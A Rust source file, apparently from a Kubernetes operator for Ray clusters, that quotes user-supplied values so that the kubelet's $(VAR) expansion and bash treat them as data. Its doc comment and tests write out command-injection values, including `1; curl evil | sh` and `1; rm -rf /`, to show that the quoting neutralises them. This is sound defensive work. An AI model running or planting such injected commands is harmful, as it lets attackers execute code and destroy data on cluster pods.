//! Quoting of user values placed in the shell commands the operator generates.
//!
//! KubeRay pastes `rayStartParams` values, entrypoints and runtime-environment JSON into a `bash -c` string as they
//! are, so a value such as `1; curl evil | sh` runs as code in every Ray pod. Here every user value becomes one
//! shell word that bash passes through as data. Values that need no quoting (`2`, `0.0.0.0`, `8265`) are written
//! bare, so the common command line reads exactly like KubeRay's, and `$KUBERAY_GEN_RAY_START_CMD` expands to the
//! same words as with KubeRay for such values.
//!
//! Before bash runs, the kubelet replaces `$(NAME)` in a container's `command` and `args` (and in `env` values) by
//! the value of the container's variable `NAME` (see [`kubelet_tokens`]). Single quotes mean nothing to the
//! kubelet, so a quoted `'--redis-password=$(REDIS_PASSWORD)'` would let a `'` in the Secret end the quotes and run
//! the rest as code. [`quote`] therefore writes every word so that the kubelet's expansion leaves exactly the
//! quoted word: each literal `$` is written `$$` (which the kubelet turns back into `$`), and a reference
//! `$(NAME)` becomes `"${NAME}"`, which bash expands as data inside double quotes. The meaning is the kubelet's
//! with one edge: a variable the container does not define expands to nothing, where the kubelet would leave the
//! text `$(NAME)` (which KubeRay's unquoted command line then ran as a command substitution).

use std::borrow::Cow;

/// A value that cannot be passed through a shell.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ShellError {
    /// The value contains a NUL character, which no process argument can hold.
    #[error("{field}: the value contains a NUL character, which cannot be passed to a command")]
    Nul {
        /// The field holding the value.
        field: String,
    },
    /// A shell command (such as a RayJob entrypoint) has an unterminated quote or a trailing backslash.
    #[error(
        "{field}: {value:?} cannot be split into words: it has an unterminated quote or a trailing backslash"
    )]
    Unbalanced {
        /// The field holding the value.
        field: String,
        /// The value.
        value: String,
    },
}

/// Characters that never mean anything to bash inside a word (after the command name).
fn is_safe(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c)
}

/// Whether `name` is a shell variable name (`[A-Za-z_][A-Za-z0-9_]*`), so `"${name}"` reads that variable.
pub fn is_shell_identifier(name: &str) -> bool {
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// A piece of a string as the kubelet's `$(VAR)` expansion reads it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum KubeletToken<'a> {
    /// Text the kubelet passes on as it is (after turning `$$` into `$`).
    Text(String),
    /// `$(NAME)`: replaced by the container's variable `NAME` if it has one, else left as the text `$(NAME)`.
    Ref(&'a str),
}

/// Reads `value` as the kubelet's expansion does (Kubernetes `third_party/forked/golang/expansion`), left to
/// right: `$$` is a literal `$`; `$(` up to the first `)` is a reference to the name in between; a `$(` without a
/// closing `)` is literal text, and so is `$` followed by anything else or at the end.
pub fn kubelet_tokens(value: &str) -> Vec<KubeletToken<'_>> {
    let bytes = value.as_bytes();
    let mut tokens = Vec::new();
    let mut text = String::new();
    let mut checkpoint = 0;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'$' || i + 1 == bytes.len() {
            i += 1;
            continue;
        }
        text.push_str(&value[checkpoint..i]);
        match bytes[i + 1] {
            b'$' => {
                text.push('$');
                i += 2;
            }
            b'(' => match value[i + 2..].find(')') {
                Some(len) => {
                    if !text.is_empty() {
                        tokens.push(KubeletToken::Text(std::mem::take(&mut text)));
                    }
                    tokens.push(KubeletToken::Ref(&value[i + 2..i + 2 + len]));
                    i += 2 + len + 1;
                }
                None => {
                    text.push_str("$(");
                    i += 2;
                }
            },
            // `$x`: literal; `x` (never `$` or `(` here) is read again as ordinary text.
            _ => {
                text.push('$');
                i += 1;
            }
        }
        checkpoint = i;
    }
    text.push_str(&value[checkpoint..]);
    if !text.is_empty() {
        tokens.push(KubeletToken::Text(text));
    }
    tokens
}

/// Quotes literal text as one bash word: bare when it consists only of characters bash never interprets, else in
/// single quotes with each `'` written as `'"'"'` (inside single quotes bash interprets nothing, not even
/// newlines).
fn bash_quote(text: &str) -> Cow<'_, str> {
    if !text.is_empty() && text.chars().all(is_safe) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', "'\"'\"'")))
}

/// The bash text for a kubelet reference `$(NAME)` (NAME a shell variable name) that means what the kubelet
/// means, but as data: `"${NAME-\$$(NAME)}"`. The kubelet leaves it alone except for turning `$$` into `$`; bash
/// then gives the variable's content when the container defines it, and the literal text `$(NAME)` when it does
/// not, as the kubelet would have. Either way the result is one word of data, never code.
fn kubelet_reference(name: &str) -> String {
    format!("\"${{{name}-\\$$({name})}}\"")
}

/// Quotes `value` as one shell word of a container command, such that the kubelet's `$(VAR)` expansion followed by
/// bash delivers it as data.
///
/// A value of only letters, digits and `_@%+=:,./-` stays bare, so `--num-cpus=2` reads as KubeRay writes it;
/// other text is single-quoted. Every literal `$` is written `$$`, which the kubelet turns back into `$`. A kubelet
/// reference `$(NAME)` whose name is a shell variable name keeps its meaning through bash (the variable's content
/// as data, or the text `$(NAME)` when the container does not define it; see `kubelet_reference`); any other
/// `$(...)` stays literal text.
pub fn quote<'a>(value: &'a str, field: &str) -> Result<Cow<'a, str>, ShellError> {
    if value.contains('\0') {
        return Err(ShellError::Nul {
            field: field.to_string(),
        });
    }
    if !value.contains('$') {
        return Ok(bash_quote(value));
    }
    let mut out = String::new();
    let mut text = String::new();
    for token in kubelet_tokens(value) {
        match token {
            KubeletToken::Ref(name) if is_shell_identifier(name) => {
                if !text.is_empty() {
                    out.push_str(&bash_quote(&std::mem::take(&mut text)).replace('$', "$$"));
                }
                out.push_str(&kubelet_reference(name));
            }
            KubeletToken::Ref(name) => {
                text.push_str("$(");
                text.push_str(name);
                text.push(')');
            }
            KubeletToken::Text(t) => text.push_str(&t),
        }
    }
    if !text.is_empty() || out.is_empty() {
        out.push_str(&bash_quote(&text).replace('$', "$$"));
    }
    Ok(Cow::Owned(out))
}

/// Splits a shell command line into words the way bash would, but without any expansion: `$VAR`, `$(...)`,
/// backticks and globs stay literal text, and `;`, `|`, `&&` are ordinary characters of a word.
pub fn split_words(value: &str, field: &str) -> Result<Vec<String>, ShellError> {
    if value.contains('\0') {
        return Err(ShellError::Nul {
            field: field.to_string(),
        });
    }
    shlex::split(value).ok_or_else(|| ShellError::Unbalanced {
        field: field.to_string(),
        value: value.to_string(),
    })
}

/// How a `rayStartParams` value reaches `ray start`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParamValue {
    /// Passed exactly as this text.
    Literal(String),
    /// Read from the container's environment variable of this name at start-up (the value was exactly `$NAME` or
    /// `${NAME}`, as KubeRay's samples write `redis-password: $REDIS_PASSWORD`). The variable's content is
    /// data: it is expanded inside double quotes and never parsed as code.
    EnvRef(String),
}

fn env_ref(value: &str) -> Option<&str> {
    let name = value
        .strip_prefix("${")
        .and_then(|v| v.strip_suffix('}'))
        .or_else(|| value.strip_prefix('$'))?;
    is_shell_identifier(name).then_some(name)
}

impl ParamValue {
    /// Interprets a `rayStartParams` value the way KubeRay users write them, without ever running it as code:
    ///
    /// - a value wrapped entirely in one pair of shell quotes (KubeRay's documentation writes
    ///   `resources: '"{\"CPU\": 4}"'`) is unwrapped once, as bash would, but with no expansion;
    /// - a value that is exactly `$NAME` or `${NAME}` (unquoted or in double quotes) reads that environment
    ///   variable;
    /// - anything else is literal text.
    pub fn parse(value: &str) -> ParamValue {
        let quoted = value.len() >= 2
            && ((value.starts_with('\'') && value.ends_with('\''))
                || (value.starts_with('"') && value.ends_with('"')));
        if quoted
            && let Some(words) = shlex::split(value)
            && let [word] = words.as_slice()
        {
            if value.starts_with('"')
                && let Some(name) = env_ref(word)
            {
                return ParamValue::EnvRef(name.to_string());
            }
            return ParamValue::Literal(word.clone());
        }
        match env_ref(value) {
            Some(name) => ParamValue::EnvRef(name.to_string()),
            None => ParamValue::Literal(value.to_string()),
        }
    }

    /// The text, when the value is literal.
    pub fn literal(&self) -> Option<&str> {
        match self {
            ParamValue::Literal(v) => Some(v),
            ParamValue::EnvRef(_) => None,
        }
    }

    /// Renders `prefix` followed by this value as one shell word: `prefix` and a literal are quoted,
    /// an environment reference becomes `"${NAME}"`.
    pub fn render_word(&self, prefix: &str, field: &str) -> Result<String, ShellError> {
        match self {
            ParamValue::Literal(v) => Ok(quote(&format!("{prefix}{v}"), field)?.into_owned()),
            ParamValue::EnvRef(name) => {
                let prefix = if prefix.is_empty() {
                    String::new()
                } else {
                    quote(prefix, field)?.into_owned()
                };
                Ok(format!("{prefix}\"${{{name}}}\""))
            }
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn safe_values_stay_bare() {
        assert_eq!(quote("0.0.0.0", "f").unwrap(), "0.0.0.0");
        assert_eq!(quote("--num-cpus=2", "f").unwrap(), "--num-cpus=2");
    }

    #[test]
    fn metacharacters_are_quoted() {
        let q = quote("1; rm -rf /", "f").unwrap();
        assert_ne!(q, "1; rm -rf /");
        assert_eq!(split_words(&q, "f").unwrap(), vec!["1; rm -rf /"]);
    }

    #[test]
    fn kubelet_tokens_follow_the_kubelet() {
        use KubeletToken::{Ref, Text};
        let t = |s: &str| Text(s.to_string());
        assert_eq!(kubelet_tokens("$(A)-x"), vec![Ref("A"), t("-x")]);
        assert_eq!(kubelet_tokens("$$(A)_$(B)"), vec![t("$(A)_"), Ref("B")]);
        assert_eq!(kubelet_tokens("f-$$A $? $"), vec![t("f-$A $? $")]);
        assert_eq!(kubelet_tokens("$(A$(B))"), vec![Ref("A$(B"), t(")")]);
        assert_eq!(kubelet_tokens("--$($($("), vec![t("--$($($(")]);
        assert_eq!(kubelet_tokens("$$$(A)"), vec![t("$"), Ref("A")]);
        assert_eq!(kubelet_tokens("${A}"), vec![t("${A}")]);
        assert_eq!(kubelet_tokens(""), vec![]);
    }

    #[test]
    fn quote_survives_the_kubelet() {
        // Without `$` the output is exactly the plain shell quoting.
        assert_eq!(quote("a b", "f").unwrap(), "'a b'");
        assert_eq!(quote("", "f").unwrap(), "''");
        assert_eq!(quote("$", "f").unwrap(), "'$$'");
        assert_eq!(
            quote("--redis-password=$(REDIS_PASSWORD)", "f").unwrap(),
            "--redis-password=\"${REDIS_PASSWORD-\\$$(REDIS_PASSWORD)}\""
        );
        assert_eq!(quote("$(A)", "f").unwrap(), "\"${A-\\$$(A)}\"");
        assert_eq!(
            quote("x $(A)$(b c)$$", "f").unwrap(),
            "'x '\"${A-\\$$(A)}\"'$$(b c)$$'"
        );
        assert_eq!(quote("$(touch x)", "f").unwrap(), "'$$(touch x)'");
    }

    #[test]
    fn nul_is_an_error_naming_the_field() {
        let err = quote("a\0b", "spec.x").unwrap_err();
        assert!(err.to_string().starts_with("spec.x:"));
    }

    #[test]
    fn param_values() {
        assert_eq!(
            ParamValue::parse(r#""{\"CPU\": 4}""#),
            ParamValue::Literal(r#"{"CPU": 4}"#.into())
        );
        assert_eq!(
            ParamValue::parse(r#"'{"CPU": 4}'"#),
            ParamValue::Literal(r#"{"CPU": 4}"#.into())
        );
        assert_eq!(
            ParamValue::parse("$REDIS_PASSWORD"),
            ParamValue::EnvRef("REDIS_PASSWORD".into())
        );
        assert_eq!(
            ParamValue::parse("\"${REDIS_PASSWORD}\""),
            ParamValue::EnvRef("REDIS_PASSWORD".into())
        );
        // Single quotes suppress expansion in bash, and here too.
        assert_eq!(ParamValue::parse("'$X'"), ParamValue::Literal("$X".into()));
        assert_eq!(
            ParamValue::parse("$(id)"),
            ParamValue::Literal("$(id)".into())
        );
        assert_eq!(
            ParamValue::parse("\"$(id)\""),
            ParamValue::Literal("$(id)".into())
        );
        assert_eq!(
            ParamValue::parse("'a' 'b'"),
            ParamValue::Literal("'a' 'b'".into())
        );
    }

    #[test]
    fn env_ref_word() {
        let w = ParamValue::EnvRef("P".into())
            .render_word("--redis-password=", "f")
            .unwrap();
        assert_eq!(w, "--redis-password=\"${P}\"");
    }
}
